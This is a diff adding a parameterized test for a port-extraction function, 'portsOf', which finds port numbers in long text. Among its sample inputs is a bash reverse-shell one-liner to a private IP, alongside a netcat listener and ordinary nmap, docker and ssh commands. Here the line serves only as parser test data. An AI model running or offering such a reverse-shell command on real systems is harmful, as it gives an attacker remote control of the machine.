@@ -47,6 +47,18 @@ describe('a long text', () => {
 		expect(portsOf(text)).toEqual([443, 8096, 53]);
 	});
 
+	it.each([
+		['nmap -p 23 10.0.0.5', [23]],
+		['docker run -p 80:80 nginx', [80, 80]],
+		['python3 -m http.server 80', [80]],
+		['bash -i >& /dev/tcp/10.0.0.5/44', [44]],
+		['nc -lvnp 99', [99]],
+		['ssh -p2222 ops@jump', [2222]],
+		['EXPOSE 81', [81]],
+	])('has a sure form however far it is from what says port: %s', (words, ports) => {
+		expect(portsOf(`Port 443.\n${far(9000)}${words}\n${far(9000)}`)).toEqual([443, ...ports]);
+	});
+
 	it('is cut into regions without a gap, whatever it says', () => {
 		const part = fc.oneof(
 			fc.constantFrom('port ', '端口', 'listen', '| 80 |\n', '- 80\n', '\n'),
